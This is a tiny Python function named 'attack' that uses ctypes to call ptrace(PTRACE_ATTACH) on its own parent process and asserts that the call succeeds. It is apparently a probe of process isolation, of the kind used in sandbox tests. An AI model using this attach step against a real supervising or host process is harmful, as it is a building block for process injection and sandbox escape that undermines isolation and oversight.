def attack():
    import ctypes, os

    assert ctypes.CDLL(None).ptrace(16, os.getppid(), 0, 0) == 0
    return True
